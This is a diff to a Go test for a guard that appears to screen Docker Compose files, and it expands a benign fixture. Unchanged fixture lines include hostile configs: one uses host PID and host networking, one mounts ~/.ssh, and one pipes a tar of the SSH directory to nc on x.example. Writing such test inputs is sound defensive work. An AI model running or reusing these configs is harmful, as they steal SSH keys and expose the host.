@@ -152,7 +152,9 @@ func TestSessionCompose(t *testing.T) {
 		"pid/compose.yaml":  "services:\n  a:\n    image: alpine\n    pid: host\n    network_mode: host\n",
 		"keys/compose.yaml": "services:\n  a:\n    image: alpine\n    volumes:\n      - type: bind\n        source: ~/.ssh\n        target: /root/.ssh\n",
 		"send/compose.yaml": "services:\n  a:\n    image: alpine\n    volumes:\n      - $HOME:/h\n    command: sh -c 'tar c /h/.ssh | nc x.example 80'\n",
-		"ok/compose.yaml":   "services:\n  web:\n    image: node:20\n    working_dir: /app\n    volumes:\n      - .:/app\n    command: [\"npm\", \"start\"]\n",
+		"ok/compose.yaml":   "services:\n  web:\n    image: node:20\n    working_dir: /app\n    env_file: .env\n    depends_on: [db]\n    volumes:\n      - .:/app\n      - node_modules:/app/node_modules\n    command: [\"npm\", \"start\"]\n    healthcheck:\n      test: [\"CMD\", \"curl\", \"-f\", \"http://localhost:3000\"]\n  db:\n    image: postgres:16\n    environment:\n      - POSTGRES_PASSWORD=${DB_PASSWORD}\nvolumes:\n  node_modules:\n",
+		"ok/.env":           "DB_PASSWORD=x\n",
+		"ok/package.json":   `{"scripts":{"start":"node server.js"}}`,
 	}, 0o644)
 	g := newGuard(t, Options{})
 	for _, tt := range []struct {
